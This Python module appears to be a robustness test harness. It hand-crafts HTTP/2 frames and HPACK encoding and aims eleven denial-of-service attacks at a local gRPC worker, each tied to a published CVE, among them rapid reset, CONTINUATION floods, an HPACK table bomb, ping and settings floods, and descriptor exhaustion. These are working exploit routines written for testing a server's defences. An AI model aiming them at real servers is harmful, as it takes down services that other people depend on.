"""HTTP/2 as an attacker speaks it: frames and HPACK written by hand, one function per published vulnerability.

ATTACKS maps a name to a function attack(peer, many), where peer.connect() gives a Connection and `many` scales the attack (1 is
a few hundred milliseconds). An attack raises nothing when the worker cuts it off: that is what a worker should do.
"""
import encodings.idna  # noqa: F401, another user may not be able to read it later
import select
import socket
import ssl
import time

LIMIT = 60
HANDSHAKES = 5
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_HEADERS = 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def integer(value, bits, first=0):
    """RFC 7541, 5.1."""
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + [value])


def text(value):
    return integer(len(value), 7) + value.encode()


def header(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def request(path="/weft.v1.Transport/Lane0", **other):
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "content-type": "application/grpc", "te": "trailers"}
    return b"".join(header(name, value) for name, value in {**fields, **other}.items())


def split(stream, block, piece=16000):
    """The block as HEADERS and as many CONTINUATIONs as it takes."""
    pieces = [block[i:i + piece] for i in range(0, len(block), piece)]
    return b"".join(frame(CONTINUATION if i else HEADERS, END_HEADERS if i == len(pieces) - 1 else 0, stream, p) for i, p in enumerate(pieces))


class Connection:
    """`ended`: the worker has closed it, or refuses what is sent."""

    def __init__(self, connected):
        self.socket = connected
        self.ended = False
        self.received = 0
        self.socket.settimeout(LIMIT)

    def send(self, data, patience=LIMIT):
        """False when the worker takes no more, for `patience` seconds or for good."""
        self.socket.settimeout(patience)
        try:
            self.socket.sendall(data)
            return True
        except TimeoutError:
            return False
        except OSError:
            self.ended = True
            return False

    def begin(self):
        # With the acknowledgement: gRPC applies its limits to those who have acknowledged them.
        return self.send(PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK))

    def read_until(self, wanted):
        """Reads to these bytes, or to the end."""
        seen = b""
        self.socket.settimeout(LIMIT)
        try:
            while wanted not in seen:
                data = self.socket.recv(1 << 16)
                if not data:
                    self.ended = True
                    return False
                self.received += len(data)
                seen = seen[-64:] + data
            return True
        except TimeoutError as error:
            raise AssertionError(f"the worker neither answered nor closed the connection within {LIMIT} s") from error
        except OSError:
            self.ended = True
            return False

    def settle(self, mark=b"settled!"):
        """All that was sent has been handled: the worker answers a ping, or has closed the connection."""
        return self.send(frame(PING, 0, 0, mark)) and self.read_until(frame(PING, ACK, 0, mark))

    def close(self):
        self.socket.close()


class Peer:
    """Where attacks go: a port, and TLS with this context if there is one."""

    def __init__(self, port, tls=None):
        self.port = port
        self.tls = tls
        self.received = 0
        self.connections = 0

    def connect(self):
        connection = Connection(self.handshaken())
        connection.begin()
        return connection

    def handshaken(self):
        """A worker with few turns of a core ends handshakes that take long, so that is tried again."""
        for attempt in range(HANDSHAKES):
            raw = socket.create_connection(("127.0.0.1", self.port), timeout=LIMIT)
            self.connections += 1
            if self.tls is None:
                return raw
            try:
                return self.tls.wrap_socket(raw, server_hostname="worker.weft")
            except (ssl.SSLEOFError, ConnectionError):
                raw.close()
                if attempt + 1 == HANDSHAKES:
                    raise
        raise AssertionError("no handshake was tried")

    def done(self, *connections):
        for connection in connections:
            self.received += connection.received
            connection.close()


def headers_that_abort(peer, many):
    """CVE-2023-1428: one of these, and a header that exceeds the limit of a request's size."""
    for name, value in ((":scheme", "ftp"), ("te", "x"), ("grpclb_client_stats", "x")):
        for sizes in ((9000,), (3000,) * 8, (100,) * 300):
            for first in (True, False):
                block = header(name, value) if first else b""
                block += request(**({} if first else {name: value}))
                block += b"".join(header(f"large{i}", "y" * size) for i, size in enumerate(sizes))
                c = peer.connect()
                c.send(split(1, block))
                c.settle()
                peer.done(c)
    _ = many


def headers_that_mean_nothing(peer, many):
    """The same place, with whatever else gRPC reads out of headers; CVE-2023-32732: base64 that is none."""
    names = ("grpc-encoding", "grpc-timeout", "grpc-accept-encoding", ":status", "grpc-status", "grpc-previous-rpc-attempts", "lb-token",
             "grpc-retry-pushback-ms", "grpc-internal-encoding-request", "content-type", ":method", "grpc-message", "user-agent", "host",
             "lb-cost-bin", "endpoint-load-metrics-bin", "grpc-server-stats-bin", "grpc-tags-bin", "grpc-trace-bin", "x-bin", "")
    for value in ("%\x01!", "", "9" * 40, "x" * 9000)[:2 + 2 * many]:
        for name in names:
            c = peer.connect()
            c.send(split(1, request(**{name: value})) + split(3, request()))
            c.settle()
            peer.done(c)


def long_string(peer, many):
    """CVE-2023-33953: a header of two gigabytes, which was kept until it was whole."""
    c = peer.connect()
    block = b"\x00" + text("large") + integer(1 << 31, 7)
    alive = c.send(frame(HEADERS, 0, 1, block))
    piece = frame(CONTINUATION, 0, 1, b"y" * 16000) * 64
    for _ in range(64 * many):
        alive = alive and c.send(piece, patience=2)
    peer.done(c)


def endless_number(peer, many):
    """CVE-2023-33953: a number of HPACK that goes on in zeros."""
    c = peer.connect()
    alive = c.send(frame(HEADERS, 0, 1, b"\x7f"))
    piece = frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 64
    for _ in range(16 * many):
        alive = alive and c.send(piece, patience=2)
    peer.done(c)


def continuations(peer, many):
    """CVE-2023-33953: a request whose headers never end, a few in each frame, where the limit held for a frame."""
    c = peer.connect()
    alive = c.send(frame(HEADERS, 0, 1, request()))
    for i in range(256 * many):
        piece = b"".join(frame(CONTINUATION, 0, 1, header(f"n{i}-{j}", "y" * 4000)) for j in range(256))
        alive = alive and c.send(piece, patience=2)
        if not alive:
            break
    peer.done(c)


def table(peer, many):
    """HPACK's table: larger than allowed; an entry of 4,000 bytes that each byte of a request names again."""
    c = peer.connect()
    c.send(split(1, integer(1 << 30, 5, 0x20) + request()))
    c.settle()
    peer.done(c)
    c = peer.connect()
    alive = c.send(split(1, header("bomb", "y" * 3900, indexed=True) + request()))
    for i in range(200 * many):
        alive = alive and c.send(split(3 + 2 * i, b"\xbe" * 7900))
    if alive:
        c.settle()
    peer.done(c)


def rapid_reset(peer, many):
    """CVE-2023-44487: streams that are cancelled as soon as they begin."""
    c = peer.connect()
    block = request()
    alive = True
    for first in range(0, 10000 * many, 500):
        alive = alive and c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")
                                          for i in range(first, first + 500)))
    if alive:
        c.settle()
    peer.done(c)


def made_you_reset(peer, many):
    """CVE-2025-8671: streams that the worker itself must reset, as what follows is not allowed."""
    c = peer.connect()
    block = request()
    alive = True
    for first in range(0, 5000 * many, 500):
        alive = alive and c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(WINDOW_UPDATE, 0, 2 * i + 1, b"\x7f\xff\xff\xff")
                                          for i in range(first, first + 500)), patience=5)
    peer.done(c)


def floods(peer, many):
    """CVE-2019-9512, -9515, -9518: pings and settings whose answers are not read, frames without content."""
    for piece in (frame(PING, 0, 0, b"12345678") * 4000, frame(SETTINGS) * 4000, frame(DATA, 0, 1) * 4000):
        c = peer.connect()
        alive = c.send(frame(HEADERS, END_HEADERS, 1, request()))
        for _ in range(50 * many):
            alive = alive and c.send(piece, patience=5)
        peer.done(c)


def messages(peer, many):
    """Messages that are announced and never whole: of four gigabytes, and as large as the worker takes."""
    all_of_them = []
    for size in ((1 << 32) - 1, 1 << 20):
        for _ in range(8 * many):
            c = peer.connect()
            for stream in range(1, 33, 2):
                c.send(frame(HEADERS, END_HEADERS, stream, request(path=f"/weft.v1.Transport/Lane{stream // 2 % 8}")), patience=5)
                c.send(frame(DATA, 0, stream, b"\0" + size.to_bytes(4, "big") + b"z" * 8000), patience=5)
                # Beyond its window, where the worker has not widened it.
                c.send(frame(DATA, 0, stream, b"z" * 16000) * 3, patience=5)
            all_of_them.append(c)
    for c in all_of_them:
        if not c.ended:
            c.settle()
    peer.done(*all_of_them)


def descriptors(peer, many):
    """CVE-2023-4785: more connections than the worker has descriptors, some silent and some that have begun."""
    all_of_them = []
    for i in range(300 * many):
        raw = socket.socket()
        raw.setblocking(False)
        raw.connect_ex(("127.0.0.1", peer.port))
        all_of_them.append((raw, i % 2 == 1))
    end = time.monotonic() + 5
    for raw, speaks in all_of_them:
        select.select([], [raw], [], max(0, end - time.monotonic()))
        if speaks:
            try:
                raw.send(PREFACE + frame(SETTINGS))
            except OSError:
                pass
    peer.connections += len(all_of_them)
    return lambda: [raw.close() for raw, _ in all_of_them]


ATTACKS = {attack.__name__: attack for attack in (headers_that_abort, headers_that_mean_nothing, long_string, endless_number, continuations,
                                                  table, rapid_reset, made_you_reset, floods, messages, descriptors)}
